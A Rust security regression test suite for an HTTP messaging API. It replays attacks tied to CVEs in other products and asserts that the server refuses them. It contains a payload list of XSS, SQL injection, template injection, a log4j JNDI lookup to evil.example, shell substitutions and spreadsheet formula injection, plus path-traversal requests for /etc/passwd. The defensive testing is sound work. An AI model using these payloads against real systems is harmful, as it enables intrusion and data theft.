//! Attacks that other products fell to (docs/security/t-tests.md), over HTTP. The names begin with the number of the attack;
//! docs/security/t-tests.md lists them all.

mod support;

use std::collections::BTreeSet;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use serde_json::{Value, json};
use support::{Answer, Host};
use zhengna_core::access::{ActorKind, Permission};
use zhengna_tests::world::{Engine, NANGUAN};

/// Path, method and declaration of every documented operation.
fn operations(host: &Host) -> (Value, Vec<(String, String, Value)>) {
    let document = host.call("GET", "/api/openapi.json", None, None, None).body;
    let paths = document["paths"].as_object().unwrap();
    let methods = |(path, item): (&String, &Value)| {
        item.as_object().unwrap().iter().map(|(method, o)| (path.clone(), method.to_uppercase(), o.clone())).collect::<Vec<_>>()
    };
    let all = paths.iter().flat_map(methods).collect();
    (document, all)
}

/// A path with something in place of each of its parameters.
fn filled(host: &Host, path: &str, conversation: &str) -> String {
    let ids = [
        ("{line}", host.world.line.to_string()),
        ("{conversation}", conversation.to_owned()),
        ("{taxpayer}", host.world.taxpayers[0].to_string()),
        ("{officer}", host.world.officers[1].to_string()),
        ("{provider}", "portal".to_owned()),
        ("{year}", "2026".to_owned()),
    ];
    let path = ids.iter().fold(path.to_owned(), |path, (name, id)| path.replace(name, id));
    let mut parts: Vec<&str> = path.split('/').collect();
    for part in &mut parts {
        if part.starts_with('{') {
            *part = "019a0000-0000-7000-8000-00000000ffff";
        }
    }
    let path = parts.join("/");
    match path.as_str() {
        "/api/v1/imports" | "/api/v1/imports/examinations" => path + "?list=people&name=a",
        "/api/v1/imports/proposals" => path + "?list=people&name=a&reason=b",
        _ => path,
    }
}

/// A conversation that an officer holds: conversation, its taxpayer's token, its officer's.
fn talking(host: &Host) -> (String, String, String) {
    let (taxpayer, officer) = (host.taxpayer(0), host.officer(0));
    let line = host.world.line;
    let entered = host.post(&format!("/api/v1/lines/{line}/conversations"), &taxpayer, &json!({ "topic": "问" }));
    let conversation = entered.body["conversation"].as_str().unwrap_or_else(|| panic!("{entered:?}")).to_owned();
    assert_eq!(host.post(&format!("/api/v1/lines/{line}/claims"), &officer, &json!({})).status, 201);
    (conversation, taxpayer, officer)
}

/// What comes back for these bytes, as far as the host says anything before it closes or falls silent.
fn exchanged(host: &Host, bytes: &[u8]) -> String {
    let mut stream = TcpStream::connect(host.address()).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(bytes).unwrap();
    let mut answer = Vec::new();
    let _ends_as_it_ends = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// Easy!Appointments pasted `order_by` into SQL (CVE-2025-50455): here no client names a column, an order or an operator, and a key
/// that nobody knows changes nothing: refused, or not looked at where a route takes no query.
#[test]
fn t03_no_list_is_sorted_or_filtered_by_what_a_client_names() {
    let host = Host::start(Engine::Memory);
    let (conversation, taxpayer, officer) = talking(&host);
    let boss = host.supervisor();
    let [administrator, security, auditor] = host.administrators();
    let tokens = [&taxpayer, &officer, &boss, &administrator, &security, &auditor];
    let mut refused = 0;
    for (path, method, operation) in operations(&host).1 {
        let real = filled(&host, &path, &conversation);
        if method != "GET" || operation["operationId"] == "journal.follow" || path.ends_with(".ics") {
            continue;
        }
        // A route without any query does not look at it.
        let queried = operation["parameters"].to_string().contains("\"in\":\"query\"");
        for token in tokens {
            let plain = host.get(&real, token);
            for query in ["order_by=name", "sort=name%20desc", "sort%5B%24ne%5D=1", "filter=1%3D1", "fields=password", "query_operator=OR"]
            {
                let told = host.get(&format!("{real}?{query}"), token);
                let unmoved = !queried && (told.status, &told.body) == (plain.status, &plain.body);
                assert!((400..500).contains(&told.status) || unmoved, "{path} {query}: {told:?}");
                refused += usize::from(told.body["code"] == "query.invalid");
            }
        }
    }
    assert!(refused > 60, "{refused}");
}

/// Chatwoot took the owner of a thing from the body (CVE-2026-72719), LiveHelperChat any field (CVE-2026-44633). Every object that any
/// operation reads is closed: it takes the fields it declares, and none says whose a thing is or what became of it.
#[test]
fn t05_no_body_takes_a_field_that_it_does_not_declare() {
    let host = Host::start(Engine::Memory);
    let (document, operations) = operations(&host);
    let (mut seen, mut todo) = (BTreeSet::new(), Vec::new());
    for (path, method, operation) in &operations {
        for content in operation["requestBody"]["content"].as_object().into_iter().flat_map(|c| c.values()) {
            todo.push((format!("{method} {path}"), content["schema"].clone()));
        }
    }
    let mut closed = 0;
    while let Some((place, schema)) = todo.pop() {
        match &schema {
            Value::Object(fields) => {
                if let Some(name) = fields.get("$ref").and_then(|r| r.as_str()).map(|r| r.rsplit('/').next().unwrap())
                    && seen.insert(name.to_owned())
                {
                    todo.push((format!("{place} {name}"), document["components"]["schemas"][name].clone()));
                }
                if let Some(properties) = fields.get("properties").and_then(Value::as_object) {
                    assert_eq!(fields.get("additionalProperties"), Some(&json!(false)), "{place} takes what it does not declare");
                    for of_the_host in ["id", "state", "version", "created_at", "owner", "journal", "tenant", "account_id", "region_id"] {
                        assert!(!properties.contains_key(of_the_host), "{place}: {of_the_host} is not the client's to say");
                    }
                    closed += 1;
                }
                for inner in fields.values() {
                    todo.push((place.clone(), inner.clone()));
                }
            }
            Value::Array(items) => todo.extend(items.iter().map(|item| (place.clone(), item.clone()))),
            _ => {}
        }
    }
    assert!(closed > 25, "{closed}");
}

/// FreeScout and Easy!Appointments changed state by GET (CVE-2026-35584, CVE-2026-23622).
#[test]
fn t11_no_get_and_no_head_changes_anything() {
    let host = Host::start(Engine::Sqlite);
    let (conversation, taxpayer, officer) = talking(&host);
    let boss = host.supervisor();
    let [administrator, security, auditor] = host.administrators();
    let before = host.dump();
    for (path, _, operation) in operations(&host).1 {
        let real = filled(&host, &path, &conversation);
        if operation["operationId"] == "journal.follow" {
            continue; // an open stream; it reads
        }
        for token in [&taxpayer, &officer, &boss, &administrator, &security, &auditor] {
            for method in ["GET", "HEAD"] {
                let answer = host.call(method, &real, Some(token), Some(&host.key()), None);
                assert!(answer.status < 500, "{method} {path}: {answer:?}");
            }
        }
    }
    assert_eq!(host.dump(), before);
}

/// A form on somebody else's page (CVE-2026-23622): it can send a GET, or a POST of three content types, with cookies. Nothing here
/// takes any of these, and no cookie says who anybody is.
#[test]
fn t24_what_a_foreign_page_can_send_changes_nothing() {
    let host = Host::start(Engine::Sqlite);
    let (conversation, taxpayer, officer) = talking(&host);
    let before = host.dump();
    let mut tried = 0;
    let (document, all) = operations(&host);
    for (path, method, operation) in all {
        if method == "GET" {
            continue;
        }
        let real = filled(&host, &path, &conversation);
        for token in [&taxpayer, &officer] {
            for kind in ["application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"] {
                let key = host.key();
                let body = b"{\"text\":\"x\",\"reason\":\"x\"}";
                if operation["requestBody"].is_object() {
                    let headers = [("idempotency-key", key.as_str()), ("content-type", kind)];
                    let refused = host.with_bytes(&method, &real, Some(token), &headers, body);
                    assert!([403, 404, 415].contains(&refused.status), "{method} {path} {kind}: {refused:?}");
                }
                // As a browser would send it: without a header of ours, with whatever cookies there are.
                let cookies = format!("token={token}; __Host-session={token}; session={token}");
                let headers = [("cookie", cookies.as_str()), ("content-type", kind), ("origin", "https://evil.example")];
                let refused = host.with_bytes(&method, &real, None, &headers, body);
                assert!([401, 403, 415].contains(&refused.status), "{method} {path} {kind} by cookie: {refused:?}");
                tried += 2;
            }
        }
        if document["paths"][&path].get("get").is_none() {
            assert_eq!(host.get(&real, &taxpayer).status, 405, "GET {path}");
        }
    }
    assert!(tried > 200, "{tried}");
    assert_eq!(host.dump(), before);
    let login = exchanged(&host, b"POST /api/v1/sessions HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
    assert!(!login.to_lowercase().contains("set-cookie"), "{login}");
}

/// A path that leaves the place it names (CVE-2026-53594): pages are part of the program, and no request names a file.
#[test]
fn t29_no_path_of_a_client_reaches_a_file() {
    let host = Host::start(Engine::Memory);
    for path in [
        "/assets/../../../../etc/passwd",
        "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/assets/..%2f..%2f..%2fetc%2fpasswd",
        "/assets/....//....//etc/passwd",
        "/assets/%2fetc%2fpasswd",
        "/assets/page.js%00.css",
        "//etc/passwd",
        "/api/docs/../../Cargo.toml",
        "/assets/..\\..\\Cargo.toml",
        "/.git/config",
        "/file:///etc/passwd",
    ] {
        let request = format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n");
        let answer = exchanged(&host, request.as_bytes());
        let status = answer.split(' ').nth(1).unwrap_or_default();
        assert!(["400", "404"].contains(&status) && !answer.contains("root:") && !answer.contains("[workspace]"), "{path}: {answer}");
    }
}

/// What pages, databases, shells and templates take for orders.
fn hostile() -> Vec<String> {
    let bare = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script href=data:,alert(1) />",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<object data=\"x.swf\"></object>",
        "<template><script>alert(1)</script></template>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--><script>alert(1)</script>-->",
        "'; DROP TABLE message; --",
        "' OR '1'='1",
        "1) UNION SELECT password FROM credential --",
        "\\'; SELECT pg_sleep(10); --",
        "$1 ?1 :a @b",
        "%' AND 1=1 AND '%'='",
        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/x}",
        "$(id) `id` ; id | id && id",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "../../../../etc/passwd",
        "__proto__",
        "{\"__proto__\":{\"admin\":true}}",
        "constructor[prototype][admin]=true",
        "%0d%0aSet-Cookie: x=1",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "＜script＞alert(1)＜/script＞",
        "ﹳ﷽Ḁ̈̃̕ ᠎ ﷲ 𝕏 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "NULL",
        "undefined",
        "NaN",
        "-1e400",
        "\u{fdd0}\u{ffff}",
    ];
    let around: [fn(&str) -> String; 9] = [
        |s| s.to_owned(),
        |s| format!("\"{s}"),
        |s| format!("'>{s}"),
        |s| format!("\">{s}<\""),
        |s| format!("</textarea></title></script>{s}"),
        |s| s.to_uppercase(),
        |s| format!("您好 {s} 谢谢"),
        |s| format!("{s}\n{s}"),
        |s| s.replace('<', "<\t"),
    ];
    let all: BTreeSet<String> = bare.iter().flat_map(|s| around.map(|how| how(s))).map(|s| s.trim().to_owned()).collect();
    all.into_iter().collect()
}

/// That an answer can be nothing but data to whoever reads it.
fn data(answer: &Answer) -> &Value {
    assert!(["application/json", "application/problem+json"].contains(&answer.kind.as_str()), "{answer:?}");
    &answer.body
}

/// Text that a page took for markup (CVE-2026-56731, CVE-2026-34718) or a database for SQL (CVE-2026-44706): each comes back, through
/// every field that takes text and is shown again, as the text it was, in an answer that is data.
#[test]
fn t02_t31_hostile_text_comes_back_as_the_text_it_was() {
    for engine in [Engine::Sqlite, Engine::Postgres] {
        let host = Host::start(engine);
        let (conversation, taxpayer, officer) = talking(&host);
        let boss = host.supervisor();
        let [_, _, auditor] = host.administrators();
        let at = |tail: &str| format!("/api/v1/conversations/{conversation}{tail}");
        let all = hostile();
        assert!(all.len() > 350, "{}", all.len());
        // The rate of one person is not in question here.
        let post = |path: &str, token: &str, body: &Value| {
            host.world.clock.advance(Duration::from_secs(3));
            host.post(path, token, body)
        };
        for text in &all {
            host.world.clock.advance(Duration::from_millis(500));
            let sent = host.post(&at("/messages"), &taxpayer, &json!({ "text": text }));
            assert_eq!(sent.status, 201, "{engine:?} {text}: {sent:?}");
            data(&sent);
        }
        let mut read = Vec::new();
        while read.len() < all.len() {
            let page = host.get(&at(&format!("/messages?after={}&limit=200", read.len())), &officer);
            let items = data(&page)["items"].as_array().unwrap().clone();
            assert!(!items.is_empty(), "{engine:?}: {} of {}", read.len(), all.len());
            read.extend(items.iter().map(|m| m["text"].as_str().unwrap().to_owned()));
        }
        assert_eq!(read, all, "{engine:?}: messages");
        // The other fields, with what is short enough for them.
        let short: Vec<&String> = all.iter().filter(|text| text.chars().count() <= 60 && !text.contains('\n')).step_by(7).collect();
        let mut lines = Vec::new();
        let second = host.sign_in(ActorKind::Officer, host.world.appoint("22019031", NANGUAN, &[Permission::ManageLines]).uuid());
        for text in &short {
            let settings = json!({ "name": text, "kind": "general", "hours": "always", "closing_message": text });
            let proposed = post("/api/v1/line-proposals", &boss, &json!({ "authority": NANGUAN, "settings": settings, "reason": text }));
            assert_eq!(proposed.status, 201, "{engine:?} {text}: {proposed:?}");
            let approval = data(&proposed)["approval"].as_str().unwrap().to_owned();
            let digest = json!({ "digest": data(&proposed)["digest"] });
            let approved = post(&format!("/api/v1/approvals/{approval}/approve"), &second, &digest);
            assert_eq!(approved.status, 200, "{engine:?} {text}: {approved:?}");
            lines.push((*text).clone());
            let reviewed = post(&at("/review"), &boss, &json!({ "reason": text }));
            assert_eq!(reviewed.status, 200, "{engine:?} {text}: {reviewed:?}");
            data(&reviewed);
        }
        let named: BTreeSet<String> = data(&host.get("/api/v1/lines", &taxpayer))["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|line| line["name"].as_str().unwrap().to_owned())
            .collect();
        assert!(lines.iter().all(|name| named.contains(name)), "{engine:?}: lines");
        let records = post("/api/v1/audit-reads", &auditor, &json!({ "after": 0, "limit": 1 }));
        data(&records);
        // Topic and closing note of a conversation.
        let other = host.taxpayer(1);
        for text in short.iter().take(20) {
            let line = host.world.line;
            let entered = post(&format!("/api/v1/lines/{line}/conversations"), &other, &json!({ "topic": text }));
            let id = data(&entered)["conversation"].as_str().unwrap_or_else(|| panic!("{entered:?}")).to_owned();
            let shown = host.get(&format!("/api/v1/conversations/{id}"), &other);
            assert_eq!(data(&shown)["topic"], json!(text), "{engine:?}");
            post(&format!("/api/v1/conversations/{id}/leave"), &other, &json!({}));
        }
        let note = all.iter().max_by_key(|text| text.len()).unwrap();
        assert_eq!(post(&at("/close"), &officer, &json!({ "outcome": "resolved", "note": note })).status, 200);
        // Refusals do not repeat what they refuse.
        for text in short {
            let path: String = text.bytes().map(|b| format!("%{b:02x}")).collect();
            let refused = host.get(&format!("/api/v1/conversations/{path}"), &officer);
            assert!((400..500).contains(&refused.status) && !data(&refused).to_string().contains(text.as_str()), "{text}: {refused:?}");
        }
    }
}

/// Floods of frames (RUSTSEC-2026-0258 and older): there is no HTTP/2 to flood, by prior knowledge or by upgrade.
#[test]
fn t43_http_2_is_not_spoken() {
    let host = Host::start(Engine::Memory);
    let preface = exchanged(&host, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00");
    assert!(preface.is_empty() || preface.starts_with("HTTP/1.1 4") || preface.starts_with("HTTP/1.0 4"), "{preface:?}");
    let upgrade = b"GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings, close\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABk\r\n\r\n";
    let answer = exchanged(&host, upgrade);
    assert!(answer.starts_with("HTTP/1.1 200") && !answer.to_lowercase().contains("upgrade: h2c"), "{answer:?}");
}
